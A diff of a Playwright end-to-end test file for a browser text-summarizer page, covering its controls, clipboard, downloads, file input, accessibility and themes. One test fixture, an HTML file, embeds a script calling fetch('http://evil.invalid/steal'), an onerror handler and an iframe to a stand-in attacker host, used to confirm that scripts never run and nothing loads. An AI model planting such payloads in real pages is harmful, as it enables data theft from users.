@@ -1,177 +1,123 @@
-// The demo page in headless Debian Chromium, driven by playwright-core.
-//
-// Serves the repository root with scripts/serve.mjs on a free loopback port, checks that
-// every request stays on that origin and that nothing is logged as an error, and saves
-// screenshots (desktop, phone, dark, states) to tests/e2e/screenshots/ for a human to look at.
+// The page (www/) in headless Debian Chromium: summarizing, the controls, the views, input
+// and output, keyboard use, themes and phone width. Every test also checks that no request
+// left the origin and nothing was logged as an error. Screenshots go to
+// tests/e2e/screenshots/ for a human to look at.
 
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
-import { spawn } from 'node:child_process';
-import { existsSync, mkdirSync, readFileSync } from 'node:fs';
-import path from 'node:path';
-import { fileURLToPath } from 'node:url';
-import { chromium } from 'playwright-core';
+import { readFile } from 'node:fs/promises';
+import { loadPrecis } from '../js/helpers.mjs';
+import {
+  BOILERPLATE, PHONE, assertClean, openPage, readSampleArticle, requireFiles, screenshot, start,
+} from './helpers.mjs';
+import { summaryItems, waitDone, waitForChange, waitForItems, waitReady } from './page-helpers.mjs';
 
-const repoRoot = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..');
-const SCREENSHOTS = path.join(repoRoot, 'tests', 'e2e', 'screenshots');
-const SAMPLE_ARTICLE = path.join(repoRoot, '..', 'shared', 'data', 'samples', 'pasted_article.txt');
-const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
-const BOILERPLATE = /Copyright|Leave a Reply|Required fields|Photo:/;
-const DESKTOP = { width: 1280, height: 900 };
-const PHONE = { width: 390, height: 844 };
-
-let server;
-let origin;
-let browser;
-
-/** Starts scripts/serve.mjs on a free port and resolves with its origin once it listens. */
-function startServer() {
-  return new Promise((resolve, reject) => {
-    const child = spawn(process.execPath, [path.join(repoRoot, 'scripts', 'serve.mjs')], {
-      env: { ...process.env, PORT: '0' },
-      stdio: ['ignore', 'pipe', 'inherit'],
-    });
-    let output = '';
-    child.stdout.on('data', (chunk) => {
-      output += chunk;
-      const match = output.match(/http:\/\/127\.0\.0\.1:\d+/);
-      if (match) resolve({ child, origin: match[0] });
-    });
-    child.on('exit', (code) => reject(new Error(`serve.mjs exited with ${code} before listening`)));
-  });
-}
-
-function readSampleArticle() {
-  assert.ok(
-    existsSync(SAMPLE_ARTICLE),
-    `sample article not found at ${SAMPLE_ARTICLE}; the page tests need ` +
-      'shared/data/samples/pasted_article.txt beside the repository (it is not committed)',
-  );
-  return readFileSync(SAMPLE_ARTICLE, 'utf8');
-}
-
+let env;
+let precis;
+let article;
 before(async () => {
-  for (const file of ['precis.js', 'precis_bg.wasm']) {
-    assert.ok(existsSync(path.join(repoRoot, 'pkg', file)), `pkg/${file} is missing: run "npm run build" first`);
-  }
-  assert.ok(existsSync(CHROMIUM), `${CHROMIUM} is missing: run "bash scripts/setup.sh --browser"`);
-  mkdirSync(SCREENSHOTS, { recursive: true });
-  ({ child: server, origin } = await startServer());
-  // Playwright gives each launch a fresh temporary profile (it refuses --user-data-dir).
-  // Root needs --no-sandbox; the rest keeps Chromium from reaching for the (closed) network.
-  browser = await chromium.launch({
-    executablePath: CHROMIUM,
-    args: [
-      '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
-      '--disable-background-networking', '--disable-component-update', '--disable-sync',
-    ],
-  });
+  requireFiles('pkg/precis.js', 'pkg/precis_bg.wasm');
+  article = readSampleArticle();
+  precis = await loadPrecis();
+  env = await start();
 });
+after(() => env?.close());
 
-after(async () => {
-  await browser?.close();
-  server?.kill();
-});
+/** The summary the engine itself gives (in Node), one item per chosen sentence. */
+const expected = (options) => precis.summarize(article, options).sentences.filter((s) => s.selected).map((s) => s.text);
 
-/**
- * Opens /www/ in a new context and records what a test must check afterwards: every request
- * URL, and every console error, page error or CSP violation.
- */
-async function openPage(contextOptions = {}) {
-  const context = await browser.newContext({ viewport: DESKTOP, ...contextOptions });
-  const page = await context.newPage();
-  const requests = [];
-  const problems = [];
-  page.on('request', (request) => requests.push(request.url()));
-  page.on('console', (message) => {
-    if (message.type() === 'error') problems.push(`console: ${message.text()}`);
-  });
-  page.on('pageerror', (error) => problems.push(`page error: ${error.message}`));
-  await page.goto(`${origin}/www/`);
-  return { context, page, requests, problems };
+async function openWithArticle(contextOptions) {
+  const session = await openPage(env, '/www/', contextOptions);
+  await waitReady(session.page);
+  await session.page.fill('#text', article);
+  await waitDone(session.page);
+  return session;
 }
 
-/** Waits until the WASM module is ready (the page starts with the button disabled). */
-async function waitReady(page) {
-  await page.locator('#summarize:enabled').waitFor();
-}
-
-/** Asserts that nothing went to another origin and nothing was logged as an error. */
-function assertClean({ requests, problems }) {
-  const foreign = requests.filter((url) => !url.startsWith('data:') && new URL(url).origin !== origin);
-  assert.deepEqual(foreign, [], 'requests to other origins');
-  assert.deepEqual(problems, [], 'console errors, page errors or CSP violations');
-}
-
-async function summaryItems(page) {
-  return page.locator('#summary li').allTextContents();
-}
-
-async function waitForItems(page, count) {
-  await page.waitForFunction((n) => document.querySelectorAll('#summary li').length === n, count);
-}
-
-const screenshot = (page, name) => page.screenshot({ path: path.join(SCREENSHOTS, `${name}.png`), fullPage: true });
-
-describe('demo page', () => {
-  test('summarizes the sample article, highlights it in place, follows the length control', async () => {
-    const article = readSampleArticle();
-    const session = await openPage();
+describe('summarizing', () => {
+  test('the sample article: summary, highlights in place, heat map, stats', async () => {
+    const session = await openPage(env, '/www/');
     const { page } = session;
     await waitReady(page);
     assert.ok(await page.locator('#empty').isVisible(), 'empty state before any text');
-    await screenshot(page, 'desktop-empty');
+    await screenshot(page, 'desktop-light-empty');
 
     await page.fill('#text', article);
     await waitForItems(page, 3);
+    await waitDone(page);
     const items = await summaryItems(page);
-    assert.equal(items.length, 3);
-    for (const item of items) {
-      assert.ok(article.includes(item), `summary item is a sentence of the article: ${item}`);
-      assert.doesNotMatch(item, BOILERPLATE);
-    }
-    // Document order: each item comes later in the article than the one before.
-    const positions = items.map((item) => article.indexOf(item));
-    assert.deepEqual([...positions].sort((a, b) => a - b), positions, 'summary in document order');
+    // The page's defaults (3 sentences, diversity 0.15, hybrid, English) are the engine's.
+    assert.deepEqual(items, expected());
+    for (const item of items) assert.doesNotMatch(item, BOILERPLATE);
 
-    const marks = await page.locator('#document mark').allTextContents();
-    assert.deepEqual(marks, items, 'the highlighted sentences are the summary');
+    assert.deepEqual(await page.locator('#document mark').allTextContents(), items, 'the highlighted sentences are the summary');
     assert.equal(await page.locator('#document').textContent(), article, 'the view rebuilds the article exactly');
     assert.ok((await page.locator('#document .sentence.boilerplate').count()) > 0, 'boilerplate is marked');
     const scores = await page.locator('#document .sentence').evaluateAll((els) =>
       els.map((el) => Number.parseFloat(el.style.getPropertyValue('--score'))));
     assert.ok(scores.length > 3 && scores.every((x) => x >= 0 && x <= 1), `every sentence is shaded by score: ${scores}`);
-    assert.match(await page.locator('#status').textContent(), /^3 of \d+ sentences · \d+ → \d+ words/);
-    await screenshot(page, 'desktop-summary');
+    assert.ok(new Set(scores).size > 3, 'the shades differ');
 
-    await page.fill('#length-number', '5');
+    const stats = await page.locator('#stats').textContent();
+    const match = stats.match(/^([\d,]+) → ([\d,]+) words \((\d+)%\) · (about [\d,]+ min|under a minute) of reading saved · 3 of (\d+) sentences$/);
+    assert.ok(match, `stats: ${stats}`);
+    const [before, afterCount] = [match[1], match[2]].map((n) => Number(n.replaceAll(',', '')));
+    assert.ok(before > 300 && afterCount > 20 && afterCount < before / 2, stats);
+    assert.equal(Number(match[5]), precis.summarize(article).sentences.length);
+    await screenshot(page, 'desktop-light-summary');
+    assertClean(env, session);
+    await session.context.close();
+  });
+
+  test('length, algorithm and diversity controls update the summary live', async () => {
+    const session = await openWithArticle();
+    const { page } = session;
+    // The slider, by keyboard: two steps right is 5 sentences.
+    await page.focus('#length-range');
+    await page.keyboard.press('ArrowRight');
+    await page.keyboard.press('ArrowRight');
+    assert.equal(await page.inputValue('#length-number'), '5');
     await waitForItems(page, 5);
-    assert.equal((await page.locator('#document mark').count()), 5);
+    assert.deepEqual(await summaryItems(page), expected({ sentences: 5 }));
 
-    await page.setViewportSize(PHONE);
-    await screenshot(page, 'phone-summary');
-    assertClean(session);
+    await page.fill('#length-number', '3');
+    await waitForItems(page, 3);
+    let items = await summaryItems(page);
+    await page.selectOption('#algorithm', 'textrank');
+    items = await waitForChange(page, items);
+    assert.deepEqual(items, expected({ algorithm: 'textrank' }));
+
+    await page.selectOption('#algorithm', 'hybrid');
+    items = await waitForChange(page, items);
+    await page.focus('#diversity');
+    await page.keyboard.press('End');
+    assert.equal(await page.locator('#diversity-value').textContent(), '1.00');
+    items = await waitForChange(page, items);
+    assert.deepEqual(items, expected({ diversity: 1 }));
+
+    await page.click('label[for="mode-ratio"]');
+    assert.equal(await page.locator('#length-label').textContent(), 'Share of the sentences');
+    await waitForChange(page, items);
+    assertClean(env, session);
     await session.context.close();
   });
 
   test('a real clipboard paste (Ctrl+V) is summarized', async () => {
-    const article = readSampleArticle();
-    const session = await openPage();
+    const session = await openPage(env, '/www/');
     const { page, context } = session;
-    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
+    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: env.origin });
     await waitReady(page);
     await page.evaluate((text) => navigator.clipboard.writeText(text), article);
     await page.focus('#text');
     await page.keyboard.press('Control+V');
     await waitForItems(page, 3);
     assert.equal(await page.inputValue('#text'), article);
-    assertClean(session);
+    assertClean(env, session);
     await context.close();
   });
 
-  test('without live update, Ctrl+Enter and the button summarize', async () => {
-    const article = readSampleArticle();
-    const session = await openPage();
+  test('without live update, Ctrl+Enter (from any control) and the button summarize', async () => {
+    const session = await openPage(env, '/www/');
     const { page } = session;
     await waitReady(page);
     await page.uncheck('#live');
@@ -184,27 +130,27 @@ describe('demo page', () => {
     await page.fill('#length-number', '2');
     await page.waitForTimeout(500);
     assert.equal((await summaryItems(page)).length, 3, 'still the old summary');
-    await page.click('#summarize');
+    await page.press('#algorithm', 'Control+Enter');
     await waitForItems(page, 2);
-    assertClean(session);
+    await page.fill('#length-number', '4');
+    await page.click('#summarize');
+    await waitForItems(page, 4);
+    assertClean(env, session);
     await session.context.close();
   });
 
   test('a rejected option and empty text show friendly messages', async () => {
-    const article = readSampleArticle();
-    const session = await openPage({ viewport: PHONE });
+    const session = await openWithArticle({ viewport: PHONE });
     const { page } = session;
-    await waitReady(page);
-    await page.fill('#text', article);
-    await waitForItems(page, 3);
-
     await page.click('label[for="mode-ratio"]');
     await page.fill('#length-number', '0');
-    const error = page.locator('#option-error');
+    const error = page.locator('#error');
     await error.waitFor({ state: 'visible' });
-    assert.match(await error.textContent(), /^Cannot summarize: .*"ratio"/);
+    assert.match(await error.textContent(), /^Cannot summarize: .*"ratio".* Your text is kept\.$/);
+    assert.equal(await page.getAttribute('#length-number', 'aria-invalid'), 'true');
     assert.ok(await page.locator('#results').isHidden(), 'no stale summary next to the error');
-    await screenshot(page, 'phone-option-error');
+    assert.equal(await page.inputValue('#text'), article);
+    await screenshot(page, 'phone-light-option-error');
 
     await page.fill('#length-number', '0.5');
     await error.waitFor({ state: 'hidden' });
@@ -212,36 +158,219 @@ describe('demo page', () => {
 
     await page.fill('#text', '   \n ');
     await page.locator('#empty').waitFor({ state: 'visible' });
-    assert.match(await page.locator('#empty').textContent(), /Nothing to summarize yet/);
     assert.ok(await page.locator('#results').isHidden());
-    await screenshot(page, 'phone-empty');
-    assertClean(session);
+    assertClean(env, session);
     await session.context.close();
   });
 
-  test('the example button loads and summarizes an example', async () => {
-    const session = await openPage({ colorScheme: 'dark' });
+  test('"Try an example" loads our example text and summarizes it', async () => {
+    const session = await openPage(env, '/www/', { colorScheme: 'dark' });
     const { page } = session;
     await waitReady(page);
     await page.click('#example');
     await waitForItems(page, 3);
+    const example = await readFile(new URL('../../www/example.txt', import.meta.url), 'utf8');
+    assert.equal(await page.inputValue('#text'), example);
     assert.doesNotMatch((await summaryItems(page)).join('\n'), BOILERPLATE);
-    await screenshot(page, 'desktop-dark-example');
-    assertClean(session);
+    assertClean(env, session);
+    await session.context.close();
+  });
+});
+
+describe('views and output', () => {
+  test('choosing a summary sentence scrolls to it in the article and focuses it', async () => {
+    const session = await openWithArticle({ viewport: { width: 1280, height: 600 } });
+    const { page } = session;
+    await page.fill('#length-number', '5');
+    await waitForItems(page, 5);
+    const last = page.locator('#summary a').last();
+    const text = await last.textContent();
+    await last.click();
+    await page.waitForFunction((t) => document.activeElement?.textContent === t && document.activeElement.tagName === 'MARK', text);
+    const inView = await page.evaluate(() => {
+      const box = document.activeElement.getBoundingClientRect();
+      const view = document.getElementById('document').getBoundingClientRect();
+      return box.top >= view.top - 1 && box.bottom <= view.bottom + 1 && box.top >= 0 && box.bottom <= innerHeight;
+    });
+    assert.ok(inView, 'the sentence is scrolled into view');
+    // By keyboard: Enter on a focused summary link does the same.
+    await page.focus('#summary a >> nth=0');
+    await page.keyboard.press('Enter');
+    await page.waitForFunction(() => document.activeElement?.id === document.querySelector('#summary a').getAttribute('href').slice(1));
+    await screenshot(page, 'desktop-light-jump');
+    assertClean(env, session);
     await session.context.close();
   });
 
+  test('copy as plain text and as Markdown; download .txt and .md', async () => {
+    const session = await openWithArticle();
+    const { page, context } = session;
+    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: env.origin });
+    const items = expected();
+    const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
+
+    await page.click('#copy-text');
+    await page.locator('#copy-status', { hasText: 'Copied.' }).waitFor();
+    assert.equal(await clipboard(), precis.summarize(article).summary);
+    assert.equal((await clipboard()).split('\n').length, 3);
+
+    await page.click('#copy-markdown');
+    await page.locator('#copy-status', { hasText: 'Copied as Markdown.' }).waitFor();
+    const markdown = await clipboard();
+    assert.deepEqual(markdown.split('\n').map((line) => line.slice(0, 2)), ['- ', '- ', '- ']);
+    const unescape = (line) => line.slice(2).replace(/\\(.)/g, '$1');
+    assert.deepEqual(markdown.split('\n').map(unescape), precis.summarize(article).summary.split('\n'));
+
+    for (const [button, name, content] of [
+      ['#download-text', 'summary.txt', `${precis.summarize(article).summary}\n`],
+      ['#download-markdown', 'summary.md', `${markdown}\n`],
+    ]) {
+      const [download] = await Promise.all([page.waitForEvent('download'), page.click(button)]);
+      assert.equal(download.suggestedFilename(), name);
+      assert.equal(await readFile(await download.path(), 'utf8'), content);
+    }
+    assert.equal(items.length, 3);
+    assertClean(env, session);
+    await context.close();
+  });
+});
+
+describe('input files', () => {
+  const HTML = `<!doctype html><html><head><title>Ignored</title>
+    <script>window.parent.pwned = true; fetch('http://evil.invalid/steal');</script>
+    <style>p { color: red }</style></head>
+    <body><nav>Home | News | Sport</nav>
+    <article><h1>Harbour ferry returns</h1>
+      <p>The harbour ferry will run again from <b>June</b>, the port authority said on Monday.</p>
+      <p>The ferry stopped two years ago after its engine failed.</p>
+      <img src="http://evil.invalid/pixel.png" onerror="window.parent.pwned = true">
+      <p>Tickets will cost the same as a bus fare.</p></article>
+    <iframe src="http://evil.invalid/"></iframe></body></html>`;
+  const HTML_TEXT = 'Harbour ferry returns\n\nThe harbour ferry will run again from June, the port authority said on Monday.\n\n' +
+    'The ferry stopped two years ago after its engine failed.\n\nTickets will cost the same as a bus fare.';
+
+  test('opening an .html file: reduced to its text, scripts never run, nothing loaded', async () => {
+    const session = await openPage(env, '/www/');
+    const { page } = session;
+    await waitReady(page);
+    const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.click('#open-file')]);
+    await chooser.setFiles({ name: 'ferry.html', mimeType: 'text/html', buffer: Buffer.from(HTML) });
+    await page.waitForFunction((t) => document.getElementById('text').value === t, HTML_TEXT);
+    await waitDone(page);
+    assert.equal((await summaryItems(page)).length, 3);
+    assert.equal(await page.evaluate(() => window.pwned), undefined, 'no script of the file ran');
+    // The parsed file is inert, and the page's Content-Security-Policy refuses its inline
+    // style and event handler too; those refusals are logged, and expected here.
+    const refusals = session.problems.filter((p) => p.includes('violates the following Content Security Policy'));
+    assert.equal(refusals.length, 2);
+    session.problems = session.problems.filter((p) => !refusals.includes(p));
+    assertClean(env, session);
+    await session.context.close();
+  });
+
+  test('dropping a .md or .txt file; a file of another kind is refused and the text kept', async () => {
+    const session = await openPage(env, '/www/');
+    const { page } = session;
+    await waitReady(page);
+    const drop = async (name, type, content) => {
+      const dataTransfer = await page.evaluateHandle(([n, t, c]) => {
+        const transfer = new DataTransfer();
+        transfer.items.add(new File([c], n, { type: t }));
+        return transfer;
+      }, [name, type, content]);
+      await page.dispatchEvent('#text', 'dragover', { dataTransfer });
+      assert.ok(await page.locator('#input-panel.dragging').count(), 'the drop zone is highlighted');
+      await page.dispatchEvent('#text', 'drop', { dataTransfer });
+    };
+    await drop('notes.md', 'text/markdown', '# Ferry news\n\nThe **harbour ferry** runs again. See [the timetable](http://x.invalid/t).\n\n- Tickets cost a bus fare.\n');
+    await page.waitForFunction(() => document.getElementById('text').value ===
+      'Ferry news\n\nThe harbour ferry runs again. See the timetable.\n\nTickets cost a bus fare.');
+    assert.equal(await page.locator('#input-panel.dragging').count(), 0);
+
+    await drop('article.txt', 'text/plain', article);
+    await waitForItems(page, 3);
+    assert.equal(await page.inputValue('#text'), article);
+
+    await drop('photo.png', 'image/png', 'not text');
+    await page.locator('#error', { hasText: '"photo.png" is not a .txt, .md or .html file' }).waitFor();
+    assert.equal(await page.inputValue('#text'), article, 'the text is kept');
+    assertClean(env, session);
+    await session.context.close();
+  });
+});
+
+describe('accessibility and layout', () => {
+  test('keyboard: labels, focus order, visible focus', async () => {
+    const session = await openPage(env, '/www/');
+    const { page } = session;
+    await waitReady(page);
+    await page.click('#example');
+    await waitForItems(page, 3);
+    // Every form control has an accessible name.
+    const unnamed = await page.evaluate(() =>
+      [...document.querySelectorAll('input:not([hidden]), select, textarea, button')]
+        .filter((el) => !el.labels?.length && !el.getAttribute('aria-labelledby') && !el.textContent.trim())
+        .map((el) => el.id));
+    assert.deepEqual(unnamed, []);
+
+    await page.focus('#text');
+    await page.keyboard.press('Shift+Tab');
+    const order = [];
+    for (let i = 0; i < 16; i += 1) {
+      const focused = await page.evaluate(() => {
+        const el = document.activeElement;
+        const style = getComputedStyle(el);
+        // Radio buttons are drawn by their label, which shows the focus ring.
+        const ring = el.type === 'radio' ? getComputedStyle(el.labels[0]) : style;
+        return { id: el.id || el.getAttribute('href') || el.tagName, ring: ring.outlineStyle !== 'none' && ring.outlineWidth !== '0px' };
+      });
+      order.push(focused.id);
+      assert.ok(focused.ring, `${focused.id} shows where the focus is`);
+      await page.keyboard.press('Tab');
+    }
+    assert.deepEqual(order.slice(0, 14), [
+      'open-file', 'text', 'mode-sentences', 'length-range', 'length-number', 'diversity', 'algorithm',
+      'language', 'live', 'summarize', 'copy-text', 'copy-markdown', 'download-text', 'download-markdown',
+    ]);
+    assert.match(order[14], /^#s-\d+$/, 'then the summary links');
+    assertClean(env, session);
+    await session.context.close();
+  });
+
+  for (const colorScheme of ['light', 'dark']) {
+    test(`${colorScheme} theme at desktop and phone width`, async () => {
+      const session = await openWithArticle({ colorScheme });
+      const { page } = session;
+      const background = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
+      const [r, g, b] = background.match(/\d+/g).map(Number);
+      const luminance = (0.2126 * r + 0.7152 * g + 0.0722 * b) / 255;
+      assert.ok(colorScheme === 'dark' ? luminance < 0.2 : luminance > 0.8, `${colorScheme} background ${background}`);
+      await screenshot(page, `desktop-${colorScheme}-summary`);
+
+      await page.setViewportSize(PHONE);
+      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
+      assert.ok(overflow <= 0, `no sideways scrolling at 390 px (${overflow} px too wide)`);
+      const columns = await page.evaluate(() => getComputedStyle(document.querySelector('.layout')).gridTemplateColumns.split(' ').length);
+      assert.equal(columns, 1, 'one column on a phone');
+      await screenshot(page, `phone-${colorScheme}-summary`);
+      assertClean(env, session);
+      await session.context.close();
+    });
+  }
+});
+
+describe('loading failures', () => {
   for (const file of ['precis_bg.wasm', 'precis.js']) {
     test(`a missing pkg/${file} is reported on the page`, async () => {
-      const context = await browser.newContext({ viewport: DESKTOP });
+      const context = await env.browser.newContext({ serviceWorkers: 'block' });
       const page = await context.newPage();
-      await page.route(`**/pkg/${file}`, (route) => route.fulfill({ status: 404, body: 'not found' }));
-      await page.goto(`${origin}/www/`);
+      await context.route(`**/pkg/${file}`, (route) => route.fulfill({ status: 404, body: 'not found' }));
+      await page.goto(`${env.origin}/www/`);
       const banner = page.locator('#load-error');
       await banner.waitFor({ state: 'visible' });
       assert.match(await banner.textContent(), /could not be loaded/);
       assert.ok(await page.locator('#summarize').isDisabled(), 'the button stays disabled');
-      if (file === 'precis_bg.wasm') await screenshot(page, 'desktop-load-error');
+      if (file === 'precis_bg.wasm') await screenshot(page, 'desktop-light-load-error');
       await context.close();
     });
   }
